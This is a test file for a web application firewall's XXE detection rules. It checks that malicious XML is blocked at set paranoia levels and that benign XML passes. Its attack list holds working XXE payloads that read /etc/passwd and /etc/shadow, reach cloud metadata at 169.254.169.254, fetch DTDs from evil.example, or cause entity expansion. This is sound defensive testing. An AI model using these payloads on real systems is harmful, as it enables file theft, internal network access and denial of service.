import test from "ava";
import { join } from "node:path";
import { DEFAULT_SETTINGS, WafEngine, type WafVerdict } from "../../../../proxy/waf/engine.js";
import { loadRules } from "../../../../proxy/waf/rule-file.js";
import { bundledRulesDir } from "../../../../proxy/waf/settings.js";
import type { WafInput } from "../../../../proxy/waf/types.js";

const rules = loadRules(join(bundledRulesDir(), "139-xxe.yaml"));
const engines = new Map<number, WafEngine>();

function engineAt(paranoia: number): WafEngine {
  let e = engines.get(paranoia);
  if (e === undefined) {
    e = new WafEngine(rules, { ...DEFAULT_SETTINGS, paranoia, detectionParanoia: paranoia });
    engines.set(paranoia, e);
  }
  return e;
}

type Place = "xml" | "soap" | "text" | "form" | "json" | "svg-upload" | "query";

function request(place: Place, doc: string): WafInput {
  const host: [string, string] = ["host", "api.example.com"];
  const post = (type: string, body: string, uri = "/api/import"): WafInput => ({
    method: "POST",
    uri,
    protocol: "HTTP/1.1",
    headers: [host, ["content-type", type]],
    body: Buffer.from(body),
  });
  switch (place) {
    case "xml":
      return post("application/xml", doc);
    case "soap":
      return post("text/xml; charset=utf-8", doc, "/ws/orders");
    case "text":
      return post("text/plain", doc);
    case "form":
      return post("application/x-www-form-urlencoded", `data=${encodeURIComponent(doc)}`);
    case "json":
      return post("application/json", JSON.stringify({ payload: doc }));
    case "query":
      return { method: "GET", uri: `/api/render?doc=${encodeURIComponent(doc)}`, protocol: "HTTP/1.1", headers: [host] };
    case "svg-upload": {
      const b = "----formb0undary";
      const body = `--${b}\r\nContent-Disposition: form-data; name="avatar"; filename="me.svg"\r\nContent-Type: image/svg+xml\r\n\r\n${doc}\r\n--${b}--\r\n`;
      return post(`multipart/form-data; boundary=${b}`, body, "/profile/avatar");
    }
  }
}

function verdict(paranoia: number, place: Place, doc: string): WafVerdict {
  return engineAt(paranoia).evaluate(request(place, doc), { route: "", path: "/" });
}

const ROOT = "<root><name>&xxe;</name></root>";

// [place, document, lowest paranoia level that blocks it]
const ATTACKS: readonly (readonly [Place, string, number])[] = [
  ["xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${ROOT}`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY xxe SYSTEM 'http://169.254.169.254/latest/meta-data/'>]>${ROOT}`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY xxe PUBLIC "-//A//B" "http://evil.example/x.dtd">]>${ROOT}`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://evil.example/oob.dtd"> %dtd;]><root/>`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY%p SYSTEM "http://evil.example/a">%p;]><root/>`, 1],
  ["xml", `<!doctype r [<!entity   xxe   system   "expect://id">]>${ROOT}`, 1],
  ["xml", `<!DOCTYPE r [\n  <!ENTITY\n    xxe\n    SYSTEM\n    "php://filter/convert.base64-encode/resource=index.php">\n]>${ROOT}`, 1],
  ["xml", `<!DOCTYPE r SYSTEM "http://evil.example/external.dtd"><root/>`, 1],
  ["xml", `<!DOCTYPE html PUBLIC "-//EVIL//DTD" "http://evil.example/e.dtd"><root/>`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><root>&c;</root>`, 1],
  ["xml", `<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></root>`, 1],
  ["soap", `<?xml version="1.0"?><!DOCTYPE soap [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&xxe;</soap:Body></soap:Envelope>`, 1],
  ["text", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>${ROOT}`, 1],
  ["form", `<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/hosts">]>${ROOT}`, 1],
  ["json", `<!DOCTYPE r [<!ENTITY xxe SYSTEM "jar:http://evil.example/a.zip!/b">]>${ROOT}`, 1],
  ["query", `<!DOCTYPE r [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>${ROOT}`, 1],
  ["svg-upload", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>`, 1],
  ["svg-upload", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></svg>`, 1],
  ["form", `<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY x "inner">]><root>&x;</root>`, 2],
  ["xml", `<!DOCTYPE root><root/>`, 2],
  ["xml", `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><root/>`, 2],
  ["form", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="system-property('xsl:vendor')"/></xsl:stylesheet>`, 2],
];

for (const [place, doc, pl] of ATTACKS) {
  test(`blocks at PL${pl} (${place}): ${JSON.stringify(doc.slice(0, 70))}`, (t) => {
    const v = verdict(pl, place, doc);
    t.is(v.action, "block", JSON.stringify(v.matches.map((m) => m.id)));
    t.true(v.matches.every((m) => m.id >= 139000 && m.id <= 139999));
    if (pl > 1) t.is(verdict(pl - 1, place, doc).action, "pass", "belongs to the stricter level only");
  });
}

// Ordinary XML and text that must pass at PL1 (and PL2 when marked true).
const BENIGN: readonly (readonly [Place, string, boolean])[] = [
  ["xml", `<?xml version="1.0" encoding="UTF-8"?><order id="7"><item sku="A-1" qty="2"/><note>Ring twice &amp; wait</note></order>`, true],
  ["soap", `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>`, true],
  ["xml", `<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title><link href="https://example.com/"/></feed>`, true],
  ["xml", `<root><![CDATA[ if (a < b && c > d) { return "<!-- not a comment -->"; } ]]></root>`, true],
  ["xml", `<root><!-- an ENTITY is mentioned in a comment --><v>SYSTEM PUBLIC</v></root>`, true],
  ["xml", `<?xml version="1.0"?><!DOCTYPE note><note><to>Tove</to></note>`, false],
  ["xml", `<config><include file="base.xml"/><entity name="user" system="crm"/></config>`, true],
  ["svg-upload", `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle cx="5" cy="5" r="4"/></svg>`, true],
  ["text", `The <!ENTITY> declaration defines entities; see the XML 1.0 spec, section 4.2.`, false],
  ["text", `Plain text notes: the system is public-facing and uses file storage.`, true],
  ["form", `<p>Hello <b>world</b></p>`, true],
  ["form", `Use SYSTEM and PUBLIC identifiers carefully.`, true],
  ["json", `<html><body><h1>Title</h1></body></html>`, true],
  ["json", `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>`, true],
  ["query", `<b>bold</b> & <i>italic</i>`, true],
  ["xml", `<doc xmlns:xlink="http://www.w3.org/1999/xlink"><ref xlink:href="https://example.com/a"/></doc>`, true],
  ["xml", `<root><script>var x = "&lt;!ENTITY&gt;";</script></root>`, true],
  ["form", `DOCTYPE html is the first line of every page`, true],
  ["xml", `<?xml version="1.0"?><invoice><line amount="10.00" currency="EUR">Widget &#169; 2024</line></invoice>`, true],
  ["xml", `<project><dependency><groupId>org.example</groupId><artifactId>include-utils</artifactId></dependency></project>`, true],
];

for (const [place, doc, alsoPl2] of BENIGN) {
  test(`passes at PL1${alsoPl2 ? " and PL2" : ""} (${place}): ${JSON.stringify(doc.slice(0, 70))}`, (t) => {
    const v1 = verdict(1, place, doc);
    t.is(v1.action, "pass", JSON.stringify(v1.matches.map((m) => `${m.id}:${m.match}`)));
    if (alsoPl2) {
      const v2 = verdict(2, place, doc);
      t.is(v2.action, "pass", JSON.stringify(v2.matches.map((m) => `${m.id}:${m.match}`)));
    }
  });
}

test("every rule is in the file's id range and tagged", (t) => {
  t.true(rules.length >= 4);
  for (const r of rules) {
    t.true(r.id >= 139000 && r.id <= 139999, String(r.id));
    t.true(r.tags.includes("attack-xxe") && r.tags.includes("owasp-a05"), String(r.id));
  }
});
